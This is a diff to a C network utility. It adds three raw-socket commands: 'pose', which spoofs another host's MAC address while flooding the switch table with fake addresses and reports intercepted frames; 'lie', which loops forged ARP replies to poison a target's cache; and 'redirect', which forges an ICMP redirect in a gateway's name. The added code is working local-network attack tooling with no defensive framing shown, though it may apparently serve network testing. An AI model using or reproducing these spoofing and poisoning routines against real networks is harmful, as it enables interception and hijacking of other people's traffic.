@@ -3,15 +3,21 @@
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <net/if_arp.h>
 #include <netdb.h>
 #include <netinet/icmp6.h>
 #include <netinet/ip.h>
+#include <netinet/ip_icmp.h>
 #include <netinet/udp.h>
+#include <netpacket/packet.h>
 #include <poll.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <time.h>
 #include <unistd.h>
@@ -226,6 +232,108 @@ static int flood(const char *address, const char *port) {
     }
 }
 
+// A socket for whole frames, and the interface's own address.
+static int frames(const char *interface, unsigned char *mac) {
+    struct ifreq request = {0};
+    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
+    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_NONBLOCK, htons(ETH_P_ALL));
+    if (fd < 0)
+        return -1;
+    at.sll_ifindex = if_nametoindex(interface);
+    strncpy(request.ifr_name, interface, sizeof request.ifr_name - 1);
+    if (bind(fd, (struct sockaddr *)&at, sizeof at) || ioctl(fd, SIOCGIFHWADDR, &request))
+        return -1;
+    memcpy(mac, request.ifr_hwaddr.sa_data, ETH_ALEN);
+    return fd;
+}
+
+static void read_mac(const char *text, unsigned char *mac) {
+    for (int at = 0; at < ETH_ALEN; at++)
+        mac[at] = strtoul(text + 3 * at, NULL, 16);
+}
+
+// Sends frames as if they were another's, and says so when it gets one that is for that one.
+static int pose(const char *interface, const char *whose) {
+    struct ether_header frame[4] = {{.ether_type = htons(0x88b5)}}, heard[128];
+    unsigned char own[ETH_ALEN], other[ETH_ALEN];
+    int fd = frames(interface, own);
+    if (fd < 0)
+        return failed("pose");
+    read_mac(whose, other);
+    memset(frame->ether_dhost, 0xff, ETH_ALEN);
+    puts("posing");
+    for (unsigned count = 0;; count++) {
+        // Every other one is nobody's, to fill the table of who is where.
+        memcpy(frame->ether_shost, other, ETH_ALEN);
+        if (count % 2) {
+            frame->ether_shost[0] = 2;
+            memcpy(frame->ether_shost + 2, &count, 4);
+        }
+        (void)!send(fd, frame, sizeof frame, 0);
+        for (ssize_t length; (length = recv(fd, heard, sizeof heard, 0)) > 0;)
+            if (!memcmp(heard->ether_dhost, other, ETH_ALEN) && heard->ether_type == htons(ETH_P_IP))
+                puts("overheard");
+        usleep(500);
+    }
+}
+
+// Tells one on the link, by its address there, that an address of IPv4 is here.
+static int lie(const char *interface, const char *address, const char *whom) {
+    struct {
+        struct ether_header ether;
+        struct arphdr arp;
+        unsigned char from[ETH_ALEN], from_address[4], to[ETH_ALEN], to_address[4];
+    } __attribute__((packed)) frame = {0};
+    int fd = frames(interface, frame.ether.ether_shost);
+    if (fd < 0)
+        return failed("lie");
+    read_mac(whom, frame.ether.ether_dhost);
+    frame.ether.ether_type = htons(ETH_P_ARP);
+    frame.arp = (struct arphdr){htons(ARPHRD_ETHER), htons(ETH_P_IP), ETH_ALEN, 4, htons(ARPOP_REPLY)};
+    memcpy(frame.from, frame.ether.ether_shost, ETH_ALEN);
+    memcpy(frame.to, frame.ether.ether_dhost, ETH_ALEN);
+    inet_pton(AF_INET, address, frame.from_address);
+    memcpy(frame.to_address, frame.from_address, 4);
+    puts("lying");
+    for (;;) {
+        (void)!send(fd, &frame, sizeof frame, 0);
+        usleep(500);
+    }
+}
+
+// Tells one, in the name of its gateway, that another way to somewhere is better.
+static int redirect(const char *gateway, const char *whom, const char *way, const char *where) {
+    struct {
+        struct iphdr ip;
+        struct icmphdr icmp;
+        struct iphdr about;
+        struct icmphdr answer;
+    } packet = {0};
+    packet.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_ICMP};
+    packet.ip.saddr = inet_addr(gateway);
+    packet.ip.daddr = inet_addr(whom);
+    packet.icmp.type = ICMP_REDIRECT;
+    packet.icmp.code = ICMP_REDIR_HOST;
+    packet.icmp.un.gateway = inet_addr(way);
+    packet.about = (struct iphdr){.version = 4, .ihl = 5, .ttl = 63, .protocol = IPPROTO_ICMP};
+    packet.about.tot_len = htons(sizeof packet.about + sizeof packet.answer);
+    packet.about.saddr = packet.ip.daddr;
+    packet.about.daddr = inet_addr(where);
+    // An answer of the kernel's own, of which it keeps no socket.
+    packet.answer.type = ICMP_ECHOREPLY;
+    unsigned sum = 0;
+    for (unsigned short *word = (unsigned short *)&packet.icmp; word < (unsigned short *)(&packet + 1); word++)
+        sum += *word;
+    sum = (sum >> 16) + (sum & 0xffff);
+    packet.icmp.checksum = ~(sum + (sum >> 16));
+    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = packet.ip.daddr};
+    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+    if (fd < 0 || sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) < 0)
+        return failed("redirect");
+    puts("redirect ok");
+    return 0;
+}
+
 // Asks a name server once for the address of a name of one label, and says what is answered.
 static int query(const char *address, const char *port, const char *name) {
     struct addrinfo *to = resolve(address, port, SOCK_DGRAM);
@@ -267,6 +375,12 @@ int main(int count, char **words) {
         return reach(atoi(words[2]), words + 3, count - 3);
     if (!strcmp(verb, "hold") && count == 5)
         return hold(words[2], words[3], atoi(words[4]));
+    if (!strcmp(verb, "pose") && count == 4)
+        return pose(words[2], words[3]);
+    if (!strcmp(verb, "lie") && count == 5)
+        return lie(words[2], words[3], words[4]);
+    if (!strcmp(verb, "redirect") && count == 6)
+        return redirect(words[2], words[3], words[4], words[5]);
     if (!strcmp(verb, "query") && count == 5)
         return query(words[2], words[3], words[4]);
     if (!strcmp(verb, "flood") && count == 4)
